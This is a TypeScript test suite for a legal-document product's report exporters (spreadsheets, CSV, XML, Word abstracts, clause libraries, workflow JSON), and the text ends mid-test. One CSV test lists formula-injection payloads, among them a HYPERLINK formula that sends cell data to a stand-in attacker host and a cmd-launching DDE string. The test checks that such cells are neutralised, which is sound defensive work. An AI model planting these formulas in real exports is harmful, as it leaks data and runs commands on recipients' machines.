import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import mammoth from 'mammoth';
import { SaxesParser } from 'saxes';
import yauzl from 'yauzl';
import { findSoffice } from '../../src/ingest/readers/office/libreoffice.js';
import type { Leaf, Paragraph, Section, StructureModel, StructureNode } from '../../src/document/structure.js';
import { clauseKey, stripNumbering } from '../../src/reports/clause-library.js';
import { csvField } from '../../src/reports/csv.js';
import { contentTypeOf, GENERATORS } from '../../src/reports/index.js';
import { safeFileStem, uniqueFileNames } from '../../src/reports/names.js';
import { PROJECT_TYPES, type ProjectType, type ReportDocument, type ReportItem, type ReportValue } from '../../src/model/projects.js';
import type { ArtifactSink, ArtifactSpec, ReportInput } from '../../src/reports/report.js';
import { sentences, summarize } from '../../src/reports/sections.js';
import { escapeAttr, escapeText, xmlSafe } from '../../src/reports/xml.js';
import { scratchDir } from '../helpers/scratch.js';

// ---------------------------------------------------------------- fixtures

/** Markup characters and a control character XML 1.0 cannot carry (U+0001). */
const HOSTILE_LABEL = 'Party <&>"\' \u0001name';
const HOSTILE_VALUE = 'Acme & Sons <Ltd> "quoted", \'single\'\u0001\nsecond line';

const ITEMS: ReportItem[] = [
  { propertyId: 'p1', label: 'Effective Date', labelId: 'EffectiveDate' },
  { propertyId: 'p2', label: HOSTILE_LABEL, labelId: 'Party' },
  { propertyId: 'p3', label: 'Term', labelId: 'Term' },
];
/** Every property of the docset: the items and one more. */
const PROPERTIES: ReportItem[] = [...ITEMS, { propertyId: 'p4', label: 'Governing Law', labelId: 'GoverningLaw' }];

const v = (value: string | null, confidence: number | null = value === null ? null : 0.9, page: number | null = 1, source: ReportValue['source'] = value === null ? null : 'extracted'): ReportValue => ({
  value,
  confidence,
  page,
  source,
});

const leaf = (text: string): Leaf => ({ text, boxes: [] });
const para = (text: string, role: Paragraph['role'] = 'body'): Paragraph => ({ type: 'paragraph', structure: 'p', role, leaf: leaf(text) });
const section = (headingText: string, children: StructureNode[], level = 1): Section => ({ type: 'section', level, heading: leaf(headingText), children });
const model = (nodes: StructureNode[]): StructureModel => ({ version: 1, pages: [{ number: 1, width: 2550, height: 3300 }], paginated: true, nodes, ocrPages: [] });

const CONF_A = 'The Recipient shall keep the Confidential Information secret. It shall not disclose it to any third party.';
const CONF_B = 'Each party shall protect the other party’s Confidential Information with reasonable care.';
const LAW = 'This Agreement is governed by the laws of the State of New York. Venue lies in New York County. Nothing else applies.';

const STRUCTURES: Record<string, StructureModel> = {
  d1: model([
    para('MUTUAL NON-DISCLOSURE AGREEMENT'),
    section('1. Confidentiality', [para('Page 1', 'page-number'), para(CONF_A)]),
    section('2. Governing Law', [para(LAW)]),
    section('ARTICLE IV TERM AND TERMINATION', [section('Section 4(a) Term', [para('The term is two years from the Effective Date.')], 2)]),
  ]),
  d2: model([
    section('Article IV Confidentiality', [para(CONF_A)]),
    section('Section 3(b) Governing law:', [para(LAW)]),
  ]),
  d3: model([section('CONFIDENTIALITY', [para(CONF_B)]), section('§ 5 Notices', [{ type: 'list', ordered: true, style: 'decimal', items: [{ marker: leaf('(a)'), children: [para('Notices go by mail.')] }] }])]),
};

function doc(id: string, name: string, values: Record<string, ReportValue>): ReportDocument {
  return { id, name, url: `https://quire.test/v1preview1/documents/${id}`, pageCount: 2, values: new Map(Object.entries(values)) };
}

const DOCS: ReportDocument[] = [
  doc('d1', 'Jane Doe NDA.pdf', { p1: v('2024-01-02'), p2: v(HOSTILE_VALUE, 1, 2, 'manual'), p3: v('2 years', 0.3), p4: v('New York') }),
  doc('d2', 'Lease <A&B>.docx', { p1: v('March 3, 2023', 0.45, 4), p2: v('Bob'), p4: v(null) }),
  doc('d3', 'Lease <A&B>.pdf', { p1: v('   '), p2: v('Carol'), p3: v('5 years') }),
  doc('d4', 'No structure.txt', {}),
];

function makeInput(type: ProjectType, overrides: Partial<ReportInput> = {}): ReportInput {
  return {
    project: { id: 'pj1', name: 'Project <"NDAs"> & more', type, url: 'https://quire.test/v1preview1/projects/pj1' },
    docset: { id: 'ds1', name: 'NDAs & Leases', url: 'https://quire.test/v1preview1/docsets/ds1' },
    version: '3',
    generatedAt: new Date('2026-11-22T07:00:00.000Z'),
    items: ITEMS,
    properties: PROPERTIES,
    documents: DOCS,
    structureOf: async (id) => (STRUCTURES[id] ? structuredClone(STRUCTURES[id]!) : null),
    ...overrides,
  };
}

interface Written {
  spec: ArtifactSpec;
  bytes: Buffer;
  streamed: boolean;
}

/** An in-memory sink that, like the real one, reads a stream to its end before resolving. */
function memorySink(): ArtifactSink & { files: Written[]; concurrent: number } {
  const files: Written[] = [];
  let active = 0;
  const sink = {
    files,
    concurrent: 0,
    async write(spec: ArtifactSpec, body: Buffer | Readable): Promise<void> {
      active++;
      sink.concurrent = Math.max(sink.concurrent, active);
      try {
        if (Buffer.isBuffer(body)) {
          files.push({ spec, bytes: Buffer.from(body), streamed: false });
          await new Promise((r) => setImmediate(r));
        } else {
          const chunks: Buffer[] = [];
          for await (const c of body) chunks.push(Buffer.from(c as Buffer));
          files.push({ spec, bytes: Buffer.concat(chunks), streamed: true });
        }
      } finally {
        active--;
      }
    },
  };
  return sink;
}

async function run(type: ProjectType, overrides: Partial<ReportInput> = {}): Promise<ReturnType<typeof memorySink>> {
  const sink = memorySink();
  await GENERATORS[type](makeInput(type, overrides), sink);
  assert.ok(sink.concurrent <= 1, 'artifacts are written one after another');
  return sink;
}

const names = (sink: { files: Written[] }) => sink.files.map((f) => [f.spec.name, f.spec.documentId]);
function file(sink: { files: Written[] }, name: string, documentId: string | null = null): Buffer {
  const f = sink.files.find((x) => x.spec.name === name && x.spec.documentId === documentId);
  assert.ok(f, `artifact ${name} (${documentId}) written`);
  return f.bytes;
}

const value = (d: ReportDocument, item: ReportItem): string | null => d.values.get(item.propertyId)?.value ?? null;

// ---------------------------------------------------------------- readers

/** RFC 4180 by hand: quoted fields, doubled quotes, CRLF records. */
function parseCsv(bytes: Buffer): string[][] {
  const text = bytes.toString('utf8');
  assert.equal(text.charCodeAt(0), 0xfeff, 'starts with a BOM');
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 1;
  while (i < text.length) {
    const c = text[i]!;
    if (c === '"' && field === '') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        assert.ok(q >= 0, 'closing quote');
        field += text.slice(i, q);
        if (text[q + 1] === '"') {
          field += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      assert.ok([',', '\r', undefined].includes(text[i]), `a quoted field ends at a separator (offset ${i})`);
    } else if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r') {
      assert.equal(text[i + 1], '\n', 'CRLF line ends');
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      assert.notEqual(c, '\n', 'no bare LF outside quotes');
      assert.notEqual(c, '"', 'no bare quote inside an unquoted field');
      field += c;
      i++;
    }
  }
  assert.equal(row.length + field.length, 0, 'the last record ends with CRLF');
  return rows;
}

interface XmlElement {
  name: string;
  uri: string;
  attributes: Record<string, string>;
  children: XmlElement[];
  text: string;
}

/** Well-formed, namespace-aware XML to a tree (saxes throws on any error). */
function parseXml(bytes: Buffer): XmlElement {
  const text = bytes.toString('utf8');
  assert.ok(text.startsWith('<?xml version="1.0" encoding="UTF-8"?>'), 'XML declaration');
  const parser = new SaxesParser({ xmlns: true });
  const stack: XmlElement[] = [];
  let root: XmlElement | undefined;
  parser.on('error', (e) => {
    throw e;
  });
  parser.on('opentag', (tag) => {
    const attributes: Record<string, string> = {};
    for (const a of Object.values(tag.attributes)) attributes[a.name] = a.value;
    const el: XmlElement = { name: tag.name, uri: tag.uri, attributes, children: [], text: '' };
    if (stack.length) stack.at(-1)!.children.push(el);
    else root = el;
    stack.push(el);
  });
  parser.on('text', (t) => {
    if (stack.length) stack.at(-1)!.text += t;
  });
  parser.on('closetag', () => void stack.pop());
  parser.write(text).close();
  assert.ok(root);
  return root;
}

async function loadXlsx(bytes: Buffer): Promise<ExcelJS.Workbook> {
  assert.equal(bytes.subarray(0, 2).toString('latin1'), 'PK', 'a ZIP');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

/** A sheet's cells as text ('' for empty; a hyperlink as its text), row by row. */
function sheetText(ws: ExcelJS.Worksheet): string[][] {
  const rows: string[][] = [];
  for (let r = 1; r <= ws.rowCount; r++) {
    const row = ws.getRow(r);
    const cells: string[] = [];
    for (let c = 1; c <= ws.columnCount; c++) {
      const val = row.getCell(c).value;
      cells.push(val === null || val === undefined ? '' : typeof val === 'object' && 'text' in val ? String(val.text) : String(val));
    }
    rows.push(cells);
  }
  return rows;
}

function assertStyledHeader(ws: ExcelJS.Worksheet): void {
  const view = ws.views[0] as ExcelJS.WorksheetViewFrozen | undefined;
  assert.equal(view?.state, 'frozen');
  assert.equal(view?.ySplit, 1);
  for (let c = 1; c <= ws.columnCount; c++) {
    const cell = ws.getRow(1).getCell(c);
    assert.equal(cell.font?.bold, true, `header ${c} bold`);
    assert.equal((cell.fill as ExcelJS.FillPattern | undefined)?.pattern, 'solid', `header ${c} filled`);
  }
  // Widths fitted: never narrower than the longest text (or 10), never wider than 62.
  const text = sheetText(ws);
  for (let c = 1; c <= ws.columnCount; c++) {
    const width = ws.getColumn(c).width!;
    const longest = Math.max(...text.map((r) => Math.max(...r[c - 1]!.split('\n').map((l) => l.length))));
    assert.ok(width >= Math.min(60, Math.max(10, longest)), `column ${c} width ${width} fits ${longest}`);
    assert.ok(width <= 62, `column ${c} width ${width} capped`);
  }
}

/** Every member of a ZIP (OOXML package) by name. */
function unzip(bytes: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (err, zip) => {
      if (err) return reject(err);
      const out = new Map<string, Buffer>();
      zip.on('error', reject);
      zip.on('end', () => resolve(out));
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (e, stream) => {
          if (e) return reject(e);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('error', reject);
          stream.on('end', () => {
            out.set(entry.fileName, Buffer.concat(chunks));
            zip.readEntry();
          });
        });
      });
      zip.readEntry();
    });
  });
}

/** Throws unless the XML is well-formed (saxes reports any error, including characters XML 1.0 forbids). */
function assertWellFormed(xml: string, what: string): void {
  const parser = new SaxesParser({ xmlns: true });
  let error: Error | undefined;
  parser.on('error', (e) => {
    error ??= e;
  });
  parser.write(xml).close();
  assert.equal(error, undefined, `${what}: ${error?.message}`);
}

const docxText = async (bytes: Buffer): Promise<string> => (await mammoth.extractRawText({ buffer: bytes })).value;

// ---------------------------------------------------------------- helpers

describe('report helpers', () => {
  test('contentTypeOf', () => {
    assert.equal(contentTypeOf('report.xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.equal(contentTypeOf('abstract.DOCX'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    assert.equal(contentTypeOf('report.csv'), 'text/csv; charset=utf-8');
    assert.equal(contentTypeOf('report-values.xml'), 'application/xml');
    assert.equal(contentTypeOf('Jane Doe NDA.json'), 'application/json');
    assert.equal(contentTypeOf('x.pdf'), 'application/pdf');
    assert.equal(contentTypeOf('README'), 'application/octet-stream');
    assert.equal(contentTypeOf('a.tar.gz'), 'application/octet-stream');
  });

  test('XML escaping drops what XML 1.0 forbids', () => {
    assert.equal(xmlSafe('a\u0000b\u0001c\u0008d\u000be\u000cf\u001fg\ufffeh\uffff\ud800i\udc00j'), 'abcdefghij');
    assert.equal(xmlSafe('tab\tnl\ncr\r😀é'), 'tab\tnl\ncr\r😀é');
    assert.equal(escapeText('<&>"\'\u0002'), '&lt;&amp;&gt;&quot;&apos;');
    assert.equal(escapeAttr('a\tb\nc'), 'a&#9;b&#10;c');
  });

  test('CSV fields', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
  });

  test('CSV cells that a spreadsheet would take for a formula are neutralised with a leading quote', () => {
    // OWASP's CSV injection list: =, +, -, @, tab and CR at the start of a cell.
    assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")'), '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    assert.equal(csvField('=1+2'), "'=1+2");
    assert.equal(csvField('+1 555 0100'), "'+1 555 0100");
    assert.equal(csvField('-2+3+cmd|\' /C calc\'!A0'), "'-2+3+cmd|' /C calc'!A0");
    assert.equal(csvField('@SUM(A1:A9)'), "'@SUM(A1:A9)");
    assert.equal(csvField('\t=1+2'), "'\t=1+2");
    assert.equal(csvField('\r=1+2'), '"\'\r=1+2"');
    assert.equal(csvField(';=1+2'), ';=1+2', 'only the first character counts');
    assert.equal(csvField('a=b'), 'a=b');
    // A plain negative number is still that number (nothing in it can be evaluated).
    assert.equal(csvField('-12'), '-12');
    assert.equal(csvField('-0.5'), '-0.5');
    assert.equal(csvField('-1,234.56'), '"-1,234.56"');
    assert.equal(csvField('-1e3'), "'-1e3");
    assert.equal(csvField('-12-1'), "'-12-1");
    assert.equal(csvField('-'), "'-");
    assert.equal(csvField(''), '');
  });

  test('safe file names and deterministic disambiguation', () => {
    assert.equal(safeFileStem('Jane Doe NDA.pdf'), 'Jane Doe NDA');
    assert.equal(safeFileStem('a/b\\c:d*e?f"g<h>i|j\u0001.docx'), 'a_b_c_d_e_f_g_h_i_j', 'control characters dropped');
    assert.equal(safeFileStem('Report v1.2'), 'Report v1.2');
    assert.equal(safeFileStem('...'), 'document');
    assert.equal(safeFileStem('CON.pdf'), 'CON_');
    assert.ok(safeFileStem('x'.repeat(500)).length <= 120);
    const docs = [
      { id: 'c', name: 'Lease.pdf' },
      { id: 'a', name: 'lease.docx' },
      { id: 'b', name: 'Lease (2).pdf' },
      { id: 'd', name: 'Lease.txt' },
    ];
    const expected = new Map([
      ['a', 'lease.json'],
      ['b', 'Lease (2).json'],
      ['c', 'Lease (3).json'],
      ['d', 'Lease (4).json'],
    ]);
    assert.deepEqual(uniqueFileNames(docs, 'json'), expected);
    assert.deepEqual(new Map([...uniqueFileNames([...docs].reverse(), 'json')].sort()), new Map([...expected].sort()), 'independent of input order');
  });

  test('sentences and summaries', () => {
    assert.deepEqual(sentences('Mr. Smith of Acme Inc. signed. The U.S. Bank agreed! Then 3 more.'), ['Mr. Smith of Acme Inc. signed.', 'The U.S. Bank agreed!', 'Then 3 more.']);
    assert.equal(summarize(LAW), 'This Agreement is governed by the laws of the State of New York. Venue lies in New York County.');
    const long = `${'word '.repeat(100)}end. Second.`;
    const s = summarize(long);
    assert.ok(s.length <= 300 && s.endsWith('…'), s);
  });

  test('clause labels: numbering stripped, case folded', () => {
    for (const h of ['1. Confidentiality', 'Article IV Confidentiality', 'ARTICLE 4 - CONFIDENTIALITY', 'Section 3(b) Confidentiality:', '§ 4.2 Confidentiality', '(a) Confidentiality', 'IV. Confidentiality', '1.2.3  Confidentiality.', 'A. confidentiality']) {
      assert.equal(clauseKey(h), 'confidentiality', h);
    }
    assert.equal(stripNumbering('2. Governing   Law'), 'Governing Law');
    assert.equal(clauseKey('Mixed Use'), 'mixed use', 'a word made of roman-numeral letters is not numbering');
    assert.equal(clauseKey('Section Headings'), 'section headings');
  });

  test('every project type has a generator; Chat writes nothing', async () => {
    assert.deepEqual(Object.keys(GENERATORS).sort(), [...PROJECT_TYPES].sort());
    assert.deepEqual(names(await run('Chat')), []);
  });
});

// ---------------------------------------------------------------- generators

describe('report generators', () => {
  test('TabularReport: report.xlsx, report.csv and report-values.xml per document', async () => {
    const sink = await run('TabularReport');
    assert.deepEqual(names(sink), [['report.xlsx', null], ['report.csv', null], ...DOCS.map((d) => ['report-values.xml', d.id])]);
    assert.equal(sink.files[0]!.streamed, true, 'the XLSX is streamed');

    const header = ['Document', ...ITEMS.map((i) => i.label), 'Link'];
    const wb = await loadXlsx(file(sink, 'report.xlsx'));
    const ws = wb.getWorksheet('Report')!;
    assert.ok(ws);
    assert.deepEqual(sheetText(ws), [header.map(xmlSafe), ...DOCS.map((d) => [d.name, ...ITEMS.map((i) => xmlSafe(value(d, i) ?? '')), d.url])]);
    assertStyledHeader(ws);
    DOCS.forEach((d, r) => {
      const link = ws.getRow(r + 2).getCell(header.length).value as ExcelJS.CellHyperlinkValue;
      assert.equal(link.hyperlink, d.url);
    });

    const csv = parseCsv(file(sink, 'report.csv'));
    assert.deepEqual(csv, [header, ...DOCS.map((d) => [d.name, ...ITEMS.map((i) => value(d, i) ?? ''), d.url])], 'CSV keeps every character');

    for (const d of DOCS) {
      const root = parseXml(file(sink, 'report-values.xml', d.id));
      const PR = 'http://www.docugami.com/2021/dgml/project';
      assert.equal(root.name, 'pr:Report');
      assert.equal(root.uri, PR);
      assert.equal(root.attributes['pr:document'], d.name);
      assert.equal(root.attributes['pr:project'], 'Project <"NDAs"> & more');
      assert.equal(root.children.length, ITEMS.length);
      root.children.forEach((entry, i) => {
        assert.equal(entry.name, 'pr:Entry');
        assert.equal(entry.uri, PR);
        assert.deepEqual(entry.children.map((c) => [c.name, c.uri]), [['pr:Heading', PR], ['pr:Value', PR]]);
        assert.equal(entry.children[0]!.text, xmlSafe(ITEMS[i]!.label));
        assert.equal(entry.children[1]!.text, xmlSafe(value(d, ITEMS[i]!) ?? ''));
      });
    }
  });

  test('ExcelExport: Properties and Details sheets of every docset property', async () => {
    const sink = await run('ExcelExport');
    assert.deepEqual(names(sink), [['spreadsheet.xlsx', null]]);
    const wb = await loadXlsx(file(sink, 'spreadsheet.xlsx'));
    assert.deepEqual(wb.worksheets.map((w) => w.name), ['Properties', 'Details']);
    const props = wb.getWorksheet('Properties')!;
    assert.deepEqual(sheetText(props), [
      ['Document', ...PROPERTIES.map((p) => xmlSafe(p.label)), 'Link'],
      ...DOCS.map((d) => [d.name, ...PROPERTIES.map((p) => xmlSafe(value(d, p) ?? '')), d.url]),
    ]);
    assertStyledHeader(props);
    const details = wb.getWorksheet('Details')!;
    assertStyledHeader(details);
    const expected: unknown[][] = [];
    for (const d of DOCS) {
      for (const p of PROPERTIES) {
        const e = d.values.get(p.propertyId);
        const has = e?.value != null;
        expected.push([d.name, xmlSafe(p.label), has ? xmlSafe(e!.value!) : null, e?.page ?? null, has ? e!.confidence : null, e?.source ?? null]);
      }
    }
    const actual: unknown[][] = [];
    for (let r = 2; r <= details.rowCount; r++) {
      actual.push([1, 2, 3, 4, 5, 6].map((c) => details.getRow(r).getCell(c).value ?? null));
    }
    assert.deepEqual(sheetText(details)[0], ['Document', 'Property', 'Value', 'Page', 'Confidence', 'Source']);
    assert.deepEqual(actual, expected);
    assert.equal(typeof details.getRow(2).getCell(5).value, 'number', 'confidence is a number');
  });

  test('DiligenceReport: missing and low-confidence values flagged, per-item summary', async () => {
    const sink = await run('DiligenceReport');
    assert.deepEqual(names(sink), [['diligence-report.xlsx', null]]);
    const wb = await loadXlsx(file(sink, 'diligence-report.xlsx'));
    assert.deepEqual(wb.worksheets.map((w) => w.name), ['Report', 'Summary']);
    const report = wb.getWorksheet('Report')!;
    assertStyledHeader(report);
    const text = sheetText(report);
    assert.deepEqual(text[0], ['Document', ...ITEMS.map((i) => xmlSafe(i.label)), 'Flags']);
    const flagOf = (d: ReportDocument, i: ReportItem) => {
      const e = d.values.get(i.propertyId);
      if (!e?.value?.trim()) return 'missing';
      return e.confidence !== null && e.confidence < 0.5 ? 'low' : null;
    };
    DOCS.forEach((d, r) => {
      const row = report.getRow(r + 2);
      assert.deepEqual(text[r + 1]!.slice(0, -1), [d.name, ...ITEMS.map((i) => xmlSafe(value(d, i) ?? ''))]);
      const flags = text[r + 1]!.at(-1)!;
      ITEMS.forEach((item, c) => {
        const flag = flagOf(d, item);
        const fill = row.getCell(c + 2).fill as ExcelJS.FillPattern | undefined;
        const colour = fill?.pattern === 'solid' ? (fill.fgColor?.argb ?? null) : null;
        if (flag === 'missing') assert.equal(colour, 'FFFFC7CE', `${d.id} ${item.label} red`);
        else if (flag === 'low') assert.equal(colour, 'FFFFEB9C', `${d.id} ${item.label} amber`);
        else assert.equal(colour, null, `${d.id} ${item.label} not flagged`);
        if (flag) assert.ok(flags.includes(`${xmlSafe(item.label)}: ${flag === 'missing' ? 'missing' : 'low confidence'}`), `${d.id} flags list ${item.label}: ${flags}`);
      });
      assert.equal(flags === '', ITEMS.every((i) => flagOf(d, i) === null));
    });
    assert.ok(text[3]![1] === '   ' || text[3]![1] === '', 'a blank value stays as it is');

    const summary = wb.getWorksheet('Summary')!;
    assertStyledHeader(summary);
    const rows = sheetText(summary);
    assert.deepEqual(rows[0], ['Item', 'Documents', 'With value', 'Missing', 'Low confidence']);
    ITEMS.forEach((item, i) => {
      const flags = DOCS.map((d) => flagOf(d, item));
      const missing = flags.filter((f) => f === 'missing').length;
      assert.deepEqual(rows[i + 1], [xmlSafe(item.label), String(DOCS.length), String(DOCS.length - missing), String(missing), String(flags.filter((f) => f === 'low').length)]);
    });
    assert.ok(rows.slice(1).some((r) => r[3] !== '0') && rows.slice(1).some((r) => r[4] !== '0'), 'the fixture exercises both flags');
  });

  test('Abstract: abstract.docx per document and abstracts.xlsx', async () => {
    const sink = await run('Abstract');
    assert.deepEqual(names(sink), [...DOCS.map((d) => ['abstract.docx', d.id]), ['abstracts.xlsx', null]]);
    for (const d of DOCS) {
      const text = await docxText(file(sink, 'abstract.docx', d.id));
      const lines = text.split('\n').filter(Boolean);
      assert.equal(lines[0], d.name, 'title');
      for (const item of ITEMS) {
        // mammoth's raw text drops line breaks (checked in the HTML below).
        const expected = `${xmlSafe(item.label)}: ${xmlSafe(value(d, item) ?? '').replace(/\n/g, '')}`;
        assert.ok(lines.includes(expected) || lines.includes(expected.trimEnd()), `${d.id}: ${item.label} line in ${JSON.stringify(lines)}`);
      }
      const structure = STRUCTURES[d.id];
      const headings = structure ? structure.nodes.filter((n): n is Section => n.type === 'section').map((s) => s.heading.text) : [];
      for (const h of headings) assert.ok(lines.includes(h), `${d.id}: heading ${h}`);
      if (!structure) assert.equal(lines.length, 1 + ITEMS.length, 'items only');
    }
    const d1 = await docxText(file(sink, 'abstract.docx', 'd1'));
    assert.match(d1, /The Recipient shall keep the Confidential Information secret\. It shall not disclose it to any third party\./);
    assert.match(d1, /This Agreement is governed by the laws of the State of New York\. Venue lies in New York County\.\n/, 'two sentences');
    assert.doesNotMatch(d1, /Nothing else applies|Page 1|MUTUAL NON-DISCLOSURE/, 'third sentence, page furniture and text outside sections left out');
    assert.match(d1, /TERM AND TERMINATION\n+The term is two years from the Effective Date\./, 'a top-level section summarises its subsections');
    const html = (await mammoth.convertToHtml({ buffer: file(sink, 'abstract.docx', 'd1') })).value;
    assert.ok(html.includes('<strong>Party &lt;&amp;&gt;"\' name: </strong>Acme &amp; Sons &lt;Ltd&gt; "quoted", \'single\'<br />second line'), html);

    const wb = await loadXlsx(file(sink, 'abstracts.xlsx'));
    const ws = wb.getWorksheet('Abstracts')!;
    assertStyledHeader(ws);
    const rows = sheetText(ws);
    assert.deepEqual(rows[0], ['Document', ...ITEMS.map((i) => xmlSafe(i.label)), 'Summary']);
    assert.deepEqual(rows.map((r) => r.slice(0, -1)).slice(1), DOCS.map((d) => [d.name, ...ITEMS.map((i) => xmlSafe(value(d, i) ?? ''))]));
    assert.equal(
      rows[1]!.at(-1),
      'The Recipient shall keep the Confidential Information secret. This Agreement is governed by the laws of the State of New York. The term is two years from the Effective Date.',
    );
    assert.equal(rows[4]!.at(-1), '', 'no structure, no summary');
  });

  test('AssistedAuthoring: clause-library.json and clause-library.docx', async () => {
    const sink = await run('AssistedAuthoring');
    assert.deepEqual(names(sink), [['clause-library.json', null], ['clause-library.docx', null]]);
    const lib = JSON.parse(file(sink, 'clause-library.json').toString('utf8'));
    assert.deepEqual(lib.docset, { id: 'ds1', name: 'NDAs & Leases' });
    assert.equal(lib.version, '3');
    const byKey = new Map(lib.clauses.map((c: { label: string }) => [c.label.toLowerCase(), c]));
    assert.deepEqual(byKey.get('confidentiality'), {
      label: 'Confidentiality',
      documents: ['d1', 'd2', 'd3'],
      variants: [
        { text: CONF_A, documents: ['d1', 'd2'], count: 2 },
        { text: CONF_B, documents: ['d3'], count: 1 },
      ],
    });
    assert.deepEqual(byKey.get('governing law'), { label: 'Governing Law', documents: ['d1', 'd2'], variants: [{ text: LAW, documents: ['d1', 'd2'], count: 2 }] });
    assert.deepEqual(byKey.get('term'), { label: 'Term', documents: ['d1'], variants: [{ text: 'The term is two years from the Effective Date.', documents: ['d1'], count: 1 }] });
    assert.deepEqual(byKey.get('notices'), { label: 'Notices', documents: ['d3'], variants: [{ text: '(a) Notices go by mail.', documents: ['d3'], count: 1 }] });
    assert.equal(byKey.size, 4, 'a heading without body text of its own ("ARTICLE IV TERM AND TERMINATION") is no clause');
    assert.equal(lib.clauses[0].label, 'Confidentiality', 'most used first');
    const counts = lib.clauses.map((c: { documents: string[] }) => c.documents.length);
    assert.deepEqual(counts, [...counts].sort((a, b) => b - a));

    const text = await docxText(file(sink, 'clause-library.docx'));
    assert.match(text, /Clause library: NDAs & Leases/);
    for (const c of lib.clauses) {
      assert.ok(text.includes(c.label), c.label);
      for (const variant of c.variants) assert.ok(text.includes(variant.text), variant.text);
    }
  });

  for (const type of ['ZapierWorkFlow', 'UiPathWorkFlow', 'PowerAutomateWorkFlow', 'AutomationAnywhereWorkFlow'] as const) {
    test(`${type}: one JSON per document named after it`, async () => {
      const sink = await run(type);
      // "Lease <A&B>.docx" and "Lease <A&B>.pdf" collide: the smaller id keeps the name.
      assert.deepEqual(names(sink), [
        ['Jane Doe NDA.json', 'd1'],
        ['Lease _A&B_.json', 'd2'],
        ['Lease _A&B_ (2).json', 'd3'],
        ['No structure.json', 'd4'],
      ]);
      for (const f of sink.files) {
        const d = DOCS.find((x) => x.id === f.spec.documentId)!;
        assert.equal(contentTypeOf(f.spec.name), 'application/json');
        assert.deepEqual(JSON.parse(f.bytes.toString('utf8')), {
          document: { id: d.id, name: d.name, url: d.url },
          docset: { id: 'ds1', name: 'NDAs & Leases' },
          values: Object.fromEntries(ITEMS.map((i) => [i.label, value(d, i)])),
          extractedAt: '2026-11-22T07:00:00.000Z',
        });
      }
    });
  }

  for (const type of ['UiPathDocumentAssembly', 'AutomationAnywhereDocumentAssembly'] as const) {
    test(`${type}: data.json and data.xml per document`, async () => {
      const sink = await run(type);
      assert.deepEqual(names(sink), DOCS.flatMap((d) => [['data.json', d.id], ['data.xml', d.id]]));
      for (const d of DOCS) {
        const json = JSON.parse(file(sink, 'data.json', d.id).toString('utf8'));
        assert.deepEqual(json.values, Object.fromEntries(ITEMS.map((i) => [i.label, value(d, i)])));
        assert.deepEqual(json.document, { id: d.id, name: d.name, url: d.url });
        const root = parseXml(file(sink, 'data.xml', d.id));
        assert.equal(root.name, 'Document');
        assert.equal(root.attributes['id'], d.id);
        assert.equal(root.attributes['name'], d.name);
        const [docset, values] = root.children;
        assert.deepEqual(docset!.attributes, { id: 'ds1', name: 'NDAs & Leases' });
        assert.equal(values!.name, 'Values');
        assert.deepEqual(
          values!.children.map((c) => [c.name, c.attributes['label'], c.attributes['labelId'], c.text, c.attributes['missing'] ?? null]),
          ITEMS.map((i) => ['Value', xmlSafe(i.label), i.labelId, xmlSafe(value(d, i) ?? ''), value(d, i) === null ? 'true' : null]),
        );
      }
    });
  }

  test('SmartsheetExport: sheet.csv', async () => {
    const sink = await run('SmartsheetExport');
    assert.deepEqual(names(sink), [['sheet.csv', null]]);
    assert.deepEqual(parseCsv(file(sink, 'sheet.csv')), [
      ['Document', ...ITEMS.map((i) => i.label), 'Link'],
      ...DOCS.map((d) => [d.name, ...ITEMS.map((i) => value(d, i) ?? ''), d.url]),
    ]);
  });

  test('an empty docset and a project without items still make readable files', async () => {
    const sink = await run('TabularReport', { documents: [], items: [] });
    assert.deepEqual(names(sink), [['report.xlsx', null], ['report.csv', null]]);
    const wb = await loadXlsx(file(sink, 'report.xlsx'));
    assert.deepEqual(sheetText(wb.getWorksheet('Report')!), [['Document', 'Link']]);
    assert.deepEqual(parseCsv(file(sink, 'report.csv')), [['Document', 'Link']]);
    const lib = await run('AssistedAuthoring', { documents: [] });
    assert.deepEqual(JSON.parse(file(lib, 'clause-library.json').toString()).clauses, []);
  });

  test('deterministic: the same input gives the same bytes (office files: the same cells and text)', async () => {
    for (const type of PROJECT_TYPES) {
      const [a, b] = [await run(type), await run(type)];
      assert.deepEqual(names(a), names(b), type);
      for (const [i, fa] of a.files.entries()) {
        const fb = b.files[i]!;
        if (fa.spec.name.endsWith('.xlsx')) {
          const [wa, wb] = [await loadXlsx(fa.bytes), await loadXlsx(fb.bytes)];
          assert.deepEqual(wa.worksheets.map(sheetText), wb.worksheets.map(sheetText), `${type} ${fa.spec.name}`);
        } else if (fa.spec.name.endsWith('.docx')) {
          assert.equal(await docxText(fa.bytes), await docxText(fb.bytes), `${type} ${fa.spec.name}`);
        } else {
          assert.ok(fa.bytes.equals(fb.bytes), `${type} ${fa.spec.name}`);
        }
      }
    }
  });

  test('every XML part of every XLSX and DOCX is well-formed XML 1.0', async () => {
    let parts = 0;
    for (const type of PROJECT_TYPES) {
      for (const f of (await run(type)).files) {
        if (!/\.(xlsx|docx)$/.test(f.spec.name)) continue;
        const members = await unzip(f.bytes);
        assert.ok(members.has('[Content_Types].xml'), `${f.spec.name}: an OOXML package`);
        for (const [name, bytes] of members) {
